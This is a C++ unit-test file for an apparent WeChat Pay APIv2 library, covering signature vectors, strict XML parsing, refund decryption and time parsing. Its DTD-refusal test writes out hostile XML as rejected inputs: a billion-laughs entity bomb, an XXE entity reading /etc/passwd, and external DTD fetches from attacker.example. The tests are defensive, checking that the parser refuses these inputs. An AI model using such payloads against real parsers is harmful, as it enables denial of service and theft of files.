// APIv2: flat XML parsing with DTD/entity refusal, MD5 / HMAC-SHA256 signatures (docs/protocol-notes.md §7.2,
// §7.4, §9.5), the AES-256-ECB refund req_info and Beijing-time parsing.
#include "protocol/v2.hpp"

#include <gtest/gtest.h>

#include <cctype>
#include <string>
#include <vector>

#include "base/time.hpp"

namespace wxrecon::protocol::v2 {
namespace {

using namespace std::string_literals;

const std::string official_key = "192006250b4c09247ec02edce69f6a2d";

// docs/protocol-notes.md §7.2 official example.
const fields official_example = {
    {"appid", "wxd930ea5d5a258f4f"},   {"mch_id", "10000100"}, {"device_info", "1000"}, {"body", "test"},
    {"nonce_str", "ibuaiVcKdpRxkhJA"},
};

// docs/protocol-notes.md §9.5 DERIVED notification: wechatpay-php paysuccess fixture plus an empty
// device_info, which must not take part in the signature.
const fields derived_notification = {
    {"appid", "wx2421b1c4370ec43b"},
    {"attach", "支付测试"},
    {"bank_type", "CFT"},
    {"coupon_count", "1"},
    {"coupon_fee", "10"},
    {"coupon_id", "10000"},
    {"coupon_type", "CASH"},
    {"device_info", ""},
    {"fee_type", "CNY"},
    {"is_subscribe", "Y"},
    {"mch_id", "10000100"},
    {"nonce_str", "5d2b6c2a8db53831f7eda20af46e531c"},
    {"openid", "oUpF8uMEb4qRXf22hE3X68TekukE"},
    {"out_trade_no", "1409811653"},
    {"result_code", "SUCCESS"},
    {"return_code", "SUCCESS"},
    {"time_end", "20140903131540"},
    {"total_fee", "1"},
    {"trade_type", "JSAPI"},
    {"transaction_id", "1004400740201409030005092168"},
};

// docs/protocol-notes.md §7.4 second signature for wx.requestPayment.
const fields pay_sign_v2 = {
    {"appId", "wxd678efh567hg6787"},
    {"nonceStr", "5K8264ILTKCH16CQ2502SI8ZNMTM67VS"},
    {"package", "prepay_id=wx2017033010242291fcfe0db70013231072"},
    {"signType", "MD5"},
    {"timeStamp", "1490840662"},
};

struct sign_vector {
    const char* name;
    fields f;
    std::string key;
    sign_type type;
    std::string expected;
};

const std::vector<sign_vector> sign_vectors = {
    {"docs/protocol-notes.md §7.2 MD5", official_example, official_key, sign_type::md5,
     "9A0A8659F005D6984697E2CA0A9CF3B7"},
    {"docs/protocol-notes.md §7.2 HMAC-SHA256", official_example, official_key, sign_type::hmac_sha256,
     "6A9AE1657590FD6257D693A078E1C3E4BB6BA4DC30B23E0EE2496E54170DACD6"},
    {"docs/protocol-notes.md §9.5 notification MD5", derived_notification, official_key, sign_type::md5,
     "F3F481B732273AFA2839E877583F311D"},
    {"docs/protocol-notes.md §9.5 notification HMAC-SHA256", derived_notification, official_key,
     sign_type::hmac_sha256, "DB7FDDA72B74F16EBD936876F870DEA7E28141AD5AE8D45312B011AD61ACC342"},
    {"docs/protocol-notes.md §7.4 paySign v2", pay_sign_v2, "qazwsxedcrfvtgbyhnujmikolp111111",
     sign_type::md5, "22D9B4E54AB1950F51E0649E8810ACD6"},
};

fields with(fields f, const std::string& name, const std::string& value) {
    f[name] = value;
    return f;
}

fields without(fields f, const std::string& name) {
    f.erase(name);
    return f;
}

TEST(v2_sign, reproduces_the_published_vectors) {
    for (const auto& v : sign_vectors) EXPECT_EQ(sign(v.f, v.key, v.type), v.expected) << v.name;
}

TEST(v2_sign, ignores_an_existing_sign_field) {
    for (const auto& v : sign_vectors) {
        EXPECT_EQ(sign(with(v.f, "sign", "WHATEVER"), v.key, v.type), v.expected) << v.name;
    }
}

TEST(v2_sign, includes_sign_type_when_present) {
    const fields typed = with(official_example, "sign_type", "MD5");
    EXPECT_NE(sign(typed, official_key, sign_type::md5), "9A0A8659F005D6984697E2CA0A9CF3B7");
}

TEST(v2_verify, accepts_the_published_vectors) {
    for (const auto& v : sign_vectors) {
        // Algorithm from the signature's length (the notification may omit sign_type)...
        EXPECT_TRUE(verify(with(v.f, "sign", v.expected), v.key)) << v.name;
        // ...and lower-case hex is the same signature.
        std::string lower = v.expected;
        for (char& c : lower) c = static_cast<char>(std::tolower(static_cast<unsigned char>(c)));
        EXPECT_TRUE(verify(with(v.f, "sign", lower), v.key)) << v.name;
    }
    // With an explicit sign_type the string changes, and so does the signature.
    for (const auto type : {sign_type::md5, sign_type::hmac_sha256}) {
        const fields typed =
            with(derived_notification, "sign_type", type == sign_type::md5 ? "MD5" : "HMAC-SHA256");
        EXPECT_TRUE(verify(with(typed, "sign", sign(typed, official_key, type)), official_key));
    }
}

TEST(v2_verify, rejects_wrong_or_mismatched_signatures) {
    const fields good = with(derived_notification, "sign", "F3F481B732273AFA2839E877583F311D");
    const fields good_hmac = with(derived_notification, "sign",
                                  "DB7FDDA72B74F16EBD936876F870DEA7E28141AD5AE8D45312B011AD61ACC342");
    struct verify_case {
        const char* name;
        fields f;
        std::string key;
    };
    const std::vector<verify_case> cases = {
        {"last hex digit changed", with(good, "sign", "F3F481B732273AFA2839E877583F311E"), official_key},
        {"first hex digit changed", with(good, "sign", "E3F481B732273AFA2839E877583F311D"), official_key},
        {"no sign", without(good, "sign"), official_key},
        {"empty sign", with(good, "sign", ""), official_key},
        {"wrong key", good, "192006250b4c09247ec02edce69f6a2e"},
        {"amount changed", with(good, "total_fee", "100"), official_key},
        {"unsigned extra field", with(good, "cash_fee", "1"), official_key},
        {"field dropped", without(good, "attach"), official_key},
        {"sign_type MD5 but HMAC signature", with(good_hmac, "sign_type", "MD5"), official_key},
        {"sign_type HMAC but MD5 signature", with(good, "sign_type", "HMAC-SHA256"), official_key},
        {"unknown sign_type", with(good, "sign_type", "SHA1"), official_key},
        {"lower-case sign_type", with(good, "sign_type", "md5"), official_key},
        {"40-hex signature", with(good, "sign", std::string(40, 'A')), official_key},
        {"truncated signature", with(good, "sign", "F3F481B732273AFA2839E877583F311"), official_key},
        {"signature with trailing space", with(good, "sign", "F3F481B732273AFA2839E877583F311D "),
         official_key},
    };
    for (const auto& c : cases) EXPECT_FALSE(verify(c.f, c.key)) << c.name;
    // Empty values never take part, so an added empty field keeps the signature valid.
    EXPECT_TRUE(verify(with(good, "err_code", ""), official_key));
}

TEST(v2_xml, parses_a_wechat_notification) {
    const std::string xml =
        "<xml>\n"
        "  <appid><![CDATA[wx2421b1c4370ec43b]]></appid>\n"
        "  <attach><![CDATA[支付测试]]></attach>\n"
        "  <total_fee>1</total_fee>\n"
        "  <device_info><![CDATA[]]></device_info>\n"
        "  <empty/>\n"
        "  <escaped>a&lt;b&amp;c&gt;d&quot;e&apos;f</escaped>\n"
        "  <charref>&#20320;&#x597D;</charref>\n"
        "  <cdata_amp><![CDATA[&notanentity; <!DOCTYPE is text here]]></cdata_amp>\n"
        "  <split><![CDATA[a]]]]><![CDATA[>b]]></split>\n"
        "  <spaced> keep </spaced>\n"
        "</xml>";
    const auto parsed = parse_xml(xml);
    ASSERT_TRUE(parsed.has_value()) << parsed.err().message;
    const fields expected = {
        {"appid", "wx2421b1c4370ec43b"},
        {"attach", "支付测试"},
        {"total_fee", "1"},
        {"device_info", ""},
        {"empty", ""},
        {"escaped", "a<b&c>d\"e'f"},
        {"charref", "你好"},
        {"cdata_amp", "&notanentity; <!DOCTYPE is text here"},
        {"split", "a]]>b"},
        {"spaced", " keep "},
    };
    EXPECT_EQ(*parsed, expected);
}

TEST(v2_xml, accepts_declaration_comments_and_other_roots) {
    const auto declared =
        parse_xml("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<xml><a>1</a><!-- note --></xml>");
    ASSERT_TRUE(declared.has_value()) << declared.err().message;
    EXPECT_EQ(*declared, (fields{{"a", "1"}}));
    const auto root = parse_xml("<root><refund_fee><![CDATA[3960]]></refund_fee></root>", "root");
    ASSERT_TRUE(root.has_value()) << root.err().message;
    EXPECT_EQ(root->at("refund_fee"), "3960");
    const auto framed = parse_xml("\xef\xbb\xbf\r\n<xml>\r\n<a>1</a>\r\n</xml>\r\n\r\n");
    ASSERT_TRUE(framed.has_value()) << framed.err().message;
    EXPECT_EQ(*framed, (fields{{"a", "1"}})) << "BOM and surrounding line breaks are not content";
    const auto empty = parse_xml("<xml></xml>");
    ASSERT_TRUE(empty.has_value());
    EXPECT_TRUE(empty->empty());
}

struct reject_case {
    const char* name;
    std::string xml;
    errc code;
};

TEST(v2_xml, refuses_dtds_and_entities) {
    const std::vector<reject_case> cases = {
        {"billion laughs",
         "<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\n <!ENTITY lol \"lol\">\n"
         " <!ENTITY lol1 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">\n"
         " <!ENTITY lol2 \"&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;\">\n"
         " <!ENTITY lol3 \"&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;\">\n]>\n"
         "<xml><return_code>&lol3;</return_code></xml>",
         errc::forbidden_xml},
        {"external entity",
         "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!DOCTYPE xml [<!ENTITY xxe SYSTEM "
         "\"file:///etc/passwd\">]>\n"
         "<xml><return_code>&xxe;</return_code></xml>",
         errc::forbidden_xml},
        {"external entity via PUBLIC",
         "<!DOCTYPE xml [<!ENTITY xxe PUBLIC \"-//x//EN\" "
         "\"http://attacker.example/x\">]><xml><a>&xxe;</a></xml>",
         errc::forbidden_xml},
        {"parameter entity",
         "<!DOCTYPE xml [<!ENTITY % remote SYSTEM \"http://attacker.example/evil.dtd\"> %remote;]>"
         "<xml><a>1</a></xml>",
         errc::forbidden_xml},
        {"external DTD only", "<!DOCTYPE xml SYSTEM \"http://attacker.example/x.dtd\"><xml><a>1</a></xml>",
         errc::forbidden_xml},
        {"DOCTYPE after leading whitespace", " \r\n\t<!DOCTYPE xml><xml><a>1</a></xml>", errc::forbidden_xml},
        {"DOCTYPE after a BOM", "\xef\xbb\xbf<!DOCTYPE xml><xml><a>1</a></xml>", errc::forbidden_xml},
        {"lower-case doctype", "<!doctype xml><xml><a>1</a></xml>", errc::forbidden_xml},
        {"mixed-case DocType", "<!DocType xml><xml><a>1</a></xml>", errc::forbidden_xml},
        {"space after <!", "<! DOCTYPE xml><xml><a>1</a></xml>", errc::forbidden_xml},
        {"DOCTYPE after the declaration", "<?xml version=\"1.0\"?><!DOCTYPE xml><xml><a>1</a></xml>",
         errc::forbidden_xml},
        {"DOCTYPE after a comment", "<!-- hi --><!DOCTYPE xml><xml><a>1</a></xml>", errc::forbidden_xml},
        {"DOCTYPE after the root", "<xml><a>1</a></xml><!DOCTYPE xml>", errc::forbidden_xml},
        {"bare ENTITY", "<!ENTITY x \"y\"><xml><a>&x;</a></xml>", errc::forbidden_xml},
        {"ELEMENT declaration", "<!ELEMENT xml ANY><xml><a>1</a></xml>", errc::forbidden_xml},
        {"ATTLIST declaration", "<!ATTLIST xml a CDATA #IMPLIED><xml><a>1</a></xml>", errc::forbidden_xml},
        {"NOTATION declaration", "<!NOTATION n SYSTEM \"x\"><xml><a>1</a></xml>", errc::forbidden_xml},
        {"DOCTYPE inside the root", "<xml><!DOCTYPE x><a>1</a></xml>", errc::forbidden_xml},
        {"undeclared entity reference", "<xml><a>&xxe;</a></xml>", errc::forbidden_xml},
        {"entity reference in an attribute", "<xml a=\"&xxe;\"><b>1</b></xml>", errc::forbidden_xml},
        {"entity without semicolon", "<xml><a>&amp</a></xml>", errc::forbidden_xml},
        {"bare ampersand", "<xml><a>a & b</a></xml>", errc::forbidden_xml},
        {"empty character reference", "<xml><a>&#;</a></xml>", errc::forbidden_xml},
        {"NUL character reference", "<xml><a>abc&#0;def</a></xml>", errc::forbidden_xml},
        {"NUL hex character reference", "<xml><a>abc&#x0000;def</a></xml>", errc::forbidden_xml},
        {"surrogate character reference", "<xml><a>&#xD800;</a></xml>", errc::forbidden_xml},
        {"character reference past U+10FFFF", "<xml><a>&#x110000;</a></xml>", errc::forbidden_xml},
        {"overlong character reference", "<xml><a>&#0000000000065;</a></xml>", errc::forbidden_xml},
    };
    for (const auto& c : cases) {
        const auto parsed = parse_xml(c.xml);
        ASSERT_FALSE(parsed.has_value()) << c.name;
        EXPECT_EQ(parsed.err().code, c.code) << c.name << ": " << parsed.err().message;
    }
}

TEST(v2_xml, refuses_anything_but_a_flat_document) {
    const std::vector<reject_case> cases = {
        {"empty input", "", errc::parse_error},
        {"not XML", "return_code=SUCCESS", errc::parse_error},
        {"JSON", "{\"return_code\":\"SUCCESS\"}", errc::parse_error},
        {"unterminated root", "<xml><a>1</a>", errc::parse_error},
        {"mismatched tags", "<xml><a>1</b></xml>", errc::parse_error},
        {"wrong root", "<root><a>1</a></root>", errc::parse_error},
        {"two roots", "<xml><a>1</a></xml><xml><a>2</a></xml>", errc::parse_error},
        {"text after the root", "<xml><a>1</a></xml>trailing", errc::parse_error},
        {"nested element", "<xml><a><b>1</b></a></xml>", errc::parse_error},
        {"mixed content", "<xml><a>1<b/>2</a></xml>", errc::parse_error},
        {"text directly in the root", "<xml>loose<a>1</a></xml>", errc::parse_error},
        {"attribute on the root", "<xml version=\"2\"><a>1</a></xml>", errc::parse_error},
        {"attribute on a field", "<xml><a x=\"1\">1</a></xml>", errc::parse_error},
        {"duplicate field", "<xml><total_fee>1</total_fee><total_fee>100</total_fee></xml>",
         errc::parse_error},
        {"processing instruction", "<xml><?php echo 1; ?><a>1</a></xml>", errc::parse_error},
        {"unterminated CDATA", "<xml><a><![CDATA[1</a></xml>", errc::parse_error},
        {"unterminated comment", "<xml><a>1</a><!-- </xml>", errc::parse_error},
    };
    for (const auto& c : cases) {
        const auto parsed = parse_xml(c.xml);
        ASSERT_FALSE(parsed.has_value()) << c.name;
        EXPECT_EQ(parsed.err().code, c.code) << c.name << ": " << parsed.err().message;
    }
}

TEST(v2_xml, bounds_the_input_size) {
    const std::string xml = "<xml><a>" + std::string(100, 'x') + "</a></xml>";
    EXPECT_TRUE(parse_xml(xml, "xml", xml.size()).has_value());
    const auto too_big = parse_xml(xml, "xml", xml.size() - 1);
    ASSERT_FALSE(too_big.has_value());
    EXPECT_EQ(too_big.err().code, errc::invalid_argument);
    EXPECT_FALSE(parse_xml("<xml><a>" + std::string(70000, 'x') + "</a></xml>").has_value())
        << "64 KiB default";
}

TEST(v2_xml, writes_the_documented_reply) {
    EXPECT_EQ(
        to_xml({{"return_code", "SUCCESS"}, {"return_msg", "OK"}}),
        "<xml><return_code><![CDATA[SUCCESS]]></return_code><return_msg><![CDATA[OK]]></return_msg></xml>");
    EXPECT_EQ(to_xml({}), "<xml></xml>");
}

TEST(v2_xml, round_trips_awkward_values) {
    const fields f = {
        {"cdata_end", "a]]>b"},
        {"double_end", "]]>]]>"},
        {"brackets", "]]"},
        {"markup", "<a>&amp;</a>"},
        {"entity", "&xxe;"},
        {"doctype", "<!DOCTYPE x>"},
        {"empty", ""},
        {"unicode", "形象店-深圳腾大"},
        {"spaces", "  two  "},
        {"newline", "a\nb"},
        {"end_bracket", "x]"},
        {"carriage_return", "a\r\nb\r"},  // found by fuzzing: a raw CR read back as LF
    };
    const auto parsed = parse_xml(to_xml(f));
    ASSERT_TRUE(parsed.has_value()) << parsed.err().message << "\n" << to_xml(f);
    EXPECT_EQ(*parsed, f);
    // A signed document survives serialisation and parsing with its signature intact.
    const fields signed_fields = with(derived_notification, "sign", "F3F481B732273AFA2839E877583F311D");
    const auto reparsed = parse_xml(to_xml(signed_fields));
    ASSERT_TRUE(reparsed.has_value());
    EXPECT_TRUE(verify(*reparsed, official_key));
}

// docs/protocol-notes.md §9.5 DERIVED refund req_info vector.
const std::string refund_inner_xml =
    "<root><out_refund_no><![CDATA[131811191610442717309]]></out_refund_no><out_trade_no><![CDATA["
    "71106718111915575302817]]></out_trade_no><refund_id><![CDATA[50000408942018111907145868882]]></"
    "refund_id>"
    "<refund_fee><![CDATA[3960]]></refund_fee><refund_status><![CDATA[SUCCESS]]></"
    "refund_status><success_time>"
    "<![CDATA[2018-11-19 "
    "16:24:13]]></success_time><total_fee><![CDATA[3960]]></total_fee><transaction_id><![CDATA["
    "4200000215201811190261405420]]></transaction_id></root>";

const std::string refund_req_info =
    "WBzGpzQuNpcFxIlFjUUD9FKo0rHFKIn0kRJVv7PAhPDSCjWAzcyQtBNpSb92FQg9FKQ3UKchg9ThtBc2nKj5Y9XQBa0sRi19hY8xK6q9"
    "6ePF0FRsZh9"
    "XrYEEcSr4GdYPZADb4Gq4EvlprO5AGKpKnYgy9+AB3siIHVLqKp1e7CPolUyG8HK9yOapJ20mVMZ1gKz/KoVBXgkFfF/"
    "QlikPmkUzMSLYLlUmFKaoQs"
    "BZRaXWKxmJ9O2OTQgcY6wdbN6tc/1Qqt3s5ktSkCpiDZWsl42Q4h989D/ZlbIFbwsJ/"
    "8IkJCGtbMeDMEBqIIlfnCwIqTnfphf91D7J3Yxw8vD6OYQOGAY"
    "gq6VYMCMcFlFSIBMQ1CUNWXhhwzobZlplPV+mmynm67S71kRPz5Nx5i7alkC54gS7e8/"
    "ZrMClKeA26Pj0BeDdYRIDU9UR2Bz13WtUKng0c+M2SkF6nW"
    "MplGQh8d8hjmy9V9S4NeTTChrepzPrLho07wcX4fJMZjXy++Tv6QeE2nooSyklLJthVn3eSZu53ry+"
    "LPaalTsHxmiDWr5sTBjqTP9e43wYt1I8Ejsuq"
    "EeYnAUC7jy/c4L1i5mZPZQ37aB/3leQXJbXY6TIQr1lKN3BmGhU1XAFvvxnrPcC";

TEST(v2_req_info, decrypts_the_derived_vector) {
    const auto inner = decrypt_req_info(refund_req_info, official_key);
    ASSERT_TRUE(inner.has_value()) << inner.err().message;
    EXPECT_EQ(*inner, refund_inner_xml);
    const auto parsed = parse_xml(*inner, "root");
    ASSERT_TRUE(parsed.has_value()) << parsed.err().message;
    EXPECT_EQ(parsed->at("out_refund_no"), "131811191610442717309");
    EXPECT_EQ(parsed->at("refund_fee"), "3960");
    EXPECT_EQ(parsed->at("refund_status"), "SUCCESS");
    EXPECT_EQ(parsed->at("transaction_id"), "4200000215201811190261405420");
}

TEST(v2_req_info, encrypts_to_the_derived_vector) {
    EXPECT_EQ(encrypt_req_info(refund_inner_xml, official_key), refund_req_info);
    const auto round_trip = decrypt_req_info(encrypt_req_info("<root><a>1</a></root>", "k"), "k");
    ASSERT_TRUE(round_trip.has_value());
    EXPECT_EQ(*round_trip, "<root><a>1</a></root>");
}

TEST(v2_req_info, rejects_wrong_key_and_bad_input) {
    struct req_case {
        const char* name;
        std::string req_info, key;
    };
    const std::vector<req_case> cases = {
        {"wrong APIv2 key", refund_req_info, "192006250b4c09247ec02edce69f6a2e"},
        {"not Base64", "not base64!", official_key},
        {"Base64 with a line break", refund_req_info.substr(0, 76) + "\n" + refund_req_info.substr(76),
         official_key},
        {"truncated to a partial block", refund_req_info.substr(0, 20), official_key},
        {"empty", "", official_key},
    };
    for (const auto& c : cases) {
        const auto inner = decrypt_req_info(c.req_info, c.key);
        ASSERT_FALSE(inner.has_value()) << c.name;
        EXPECT_EQ(inner.err().code, errc::decrypt_failed) << c.name;
    }
}

TEST(v2_time, parses_beijing_times) {
    struct time_case {
        std::string text;
        std::int64_t unix;
    };
    const std::vector<time_case> cases = {
        {"20141030133525", 1414647325},       // docs/protocol-notes.md §9.5 time_end example
        {"2018-11-19 16:24:13", 1542615853},  // docs/protocol-notes.md §9.5 refund success_time
        {"20140903131540", 1409721340},      {"19700101080000", 0},
        {"1970-01-01 08:00:00", 0},          {"20240229235959", 1709222399},
    };
    for (const auto& c : cases) {
        const auto parsed = parse_beijing_time(c.text);
        ASSERT_TRUE(parsed.has_value()) << c.text << ": " << parsed.err().message;
        EXPECT_EQ(*parsed, c.unix) << c.text;
        EXPECT_EQ(format_rfc3339(*parsed).substr(11, 8),
                  c.text.size() == 14
                      ? c.text.substr(8, 2) + ":" + c.text.substr(10, 2) + ":" + c.text.substr(12, 2)
                      : c.text.substr(11, 8));
    }
}

TEST(v2_time, rejects_malformed_times) {
    const std::vector<std::string> bad = {
        "",
        "2014103013352",        // 13 digits
        "201410301335250",      // 15 digits
        "2014-10-30T13:35:25",  // RFC 3339 separator
        "2014/10/30 13:35:25",
        "2014-10-30 13:35",
        "20141330133525",  // month 13
        "20230229000000",  // not a leap year
        "2018-02-30 00:00:00",
        "20141030243525",  // hour 24
        "20141030136025",
        "20141030133560",
        "2014103013352a",
        "-2014-10-30 13:35:2",
        "2014-10-30 13:35:25+08:00",
    };
    for (const auto& text : bad) {
        const auto parsed = parse_beijing_time(text);
        ASSERT_FALSE(parsed.has_value()) << text;
        EXPECT_EQ(parsed.err().code, errc::invalid_argument) << text;
    }
}

}  // namespace
}  // namespace wxrecon::protocol::v2

namespace wxrecon::protocol::v2 {
namespace {

TEST(V2ReadPayment, NotificationIsSuccessAndQueryCarriesItsState) {
    const fields paid{{"out_trade_no", "1409811653"},
                      {"transaction_id", "1004400740201409030005092168"},
                      {"total_fee", "101"},
                      {"cash_fee", "91"},
                      {"time_end", "20140903131540"},
                      {"openid", "oUpF8uMEb4qRXf22hE3X68TekukE"},
                      {"bank_type", "CFT"}};
    const auto p = read_payment(paid);
    ASSERT_TRUE(p.has_value()) << p.err().message;
    EXPECT_EQ(p->state, domain::trade_state::success);
    EXPECT_EQ(*p->amount_total, 101);
    EXPECT_EQ(*p->payer_total, 91);
    EXPECT_EQ(*p->success_time, std::int64_t{1409721340} * 1'000'000);  // 13:15:40 Beijing = 05:15:40 UTC

    const auto unpaid = read_payment({{"out_trade_no", "1409811654"}, {"trade_state", "NOTPAY"}});
    ASSERT_TRUE(unpaid.has_value()) << unpaid.err().message;
    EXPECT_EQ(unpaid->state, domain::trade_state::notpay);
    EXPECT_FALSE(unpaid->amount_total.has_value());
}

TEST(V2ReadPayment, RefusesWhatCannotBeAPayment) {
    const struct {
        fields f;
        std::string reason;
    } cases[] = {
        {{{"trade_state", "SUCCESS"}}, "out_trade_no missing"},
        {{{"out_trade_no", "A"}, {"trade_state", "PAID"}}, "unknown trade_state PAID"},
        {{{"out_trade_no", "A"}, {"total_fee", "1.00"}}, "total_fee is not a number"},
        {{{"out_trade_no", "A"}, {"total_fee", "100"}, {"cash_fee", "-1"}}, "cash_fee is not a number"},
        {{{"out_trade_no", "A"}, {"total_fee", "100"}, {"time_end", "2014-09-03"}}, "time_end is not"},
        {{{"out_trade_no", "A"}, {"total_fee", "100"}, {"time_end", "20140903131540"}},
         "needs transaction_id"},
    };
    for (const auto& c : cases) {
        const auto p = read_payment(c.f);
        ASSERT_FALSE(p.has_value()) << c.reason;
        EXPECT_NE(p.err().message.find(c.reason), std::string::npos) << p.err().message;
    }
}

}  // namespace
}  // namespace wxrecon::protocol::v2

// refundquery (docs/protocol-notes.md §7.10): the refund asked about, by its number, among those listed.
namespace wxrecon::protocol::v2 {
namespace {

fields refund_query_answer() {
    return {{"return_code", "SUCCESS"},
            {"result_code", "SUCCESS"},
            {"out_trade_no", "ORDER-7"},
            {"transaction_id", "4200000000000000000000000007"},
            {"total_fee", "1000"},
            {"refund_count", "2"},
            {"out_refund_no_0", "R-7-1"},
            {"refund_id_0", "50000000000000000071"},
            {"refund_fee_0", "300"},
            {"refund_status_0", "SUCCESS"},
            {"refund_success_time_0", "2026-11-30 10:15:00"},
            {"out_refund_no_1", "R-7-2"},
            {"refund_id_1", "50000000000000000072"},
            {"refund_fee_1", "200"},
            {"refund_status_1", "PROCESSING"}};
}

TEST(v2_refund_query, reads_the_refund_asked_about_among_several) {
    const auto first = read_refund_query(refund_query_answer(), "R-7-1");
    ASSERT_TRUE(first) << first.err().message;
    EXPECT_EQ(first->status, domain::refund_status::success);
    EXPECT_EQ(first->amount_refund, 300);
    EXPECT_EQ(first->amount_total, 1000);
    EXPECT_EQ(first->refund_id, "50000000000000000071");
    EXPECT_EQ(first->out_trade_no, "ORDER-7");
    EXPECT_EQ(first->success_time, parse_rfc3339("2026-11-30T10:15:00+08:00").value() * 1'000'000);
    const auto second = read_refund_query(refund_query_answer(), "R-7-2");
    ASSERT_TRUE(second) << second.err().message;
    EXPECT_EQ(second->status, domain::refund_status::processing);
    EXPECT_FALSE(second->success_time);
}

TEST(v2_refund_query, maps_closed_and_abnormal_and_refuses_what_it_cannot_read) {
    auto answer = refund_query_answer();
    answer["refund_status_1"] = "REFUNDCLOSE";
    EXPECT_EQ(read_refund_query(answer, "R-7-2")->status, domain::refund_status::closed);
    answer["refund_status_1"] = "CHANGE";
    EXPECT_EQ(read_refund_query(answer, "R-7-2")->status, domain::refund_status::abnormal);
    answer["refund_status_1"] = "LOST";
    EXPECT_NE(read_refund_query(answer, "R-7-2").err().message.find("refund_status_1"), std::string::npos);
    EXPECT_NE(read_refund_query(refund_query_answer(), "R-7-9").err().message.find("R-7-9"),
              std::string::npos);
    auto no_time = refund_query_answer();
    no_time.erase("refund_success_time_0");
    EXPECT_NE(read_refund_query(no_time, "R-7-1").err().message.find("refund_success_time_0"),
              std::string::npos);
    auto no_fee = refund_query_answer();
    no_fee["refund_fee_0"] = "3.00";
    EXPECT_FALSE(read_refund_query(no_fee, "R-7-1"));
    auto no_count = refund_query_answer();
    no_count.erase("refund_count");
    EXPECT_NE(read_refund_query(no_count, "R-7-1").err().message.find("refund_count"), std::string::npos);
}

}  // namespace
}  // namespace wxrecon::protocol::v2
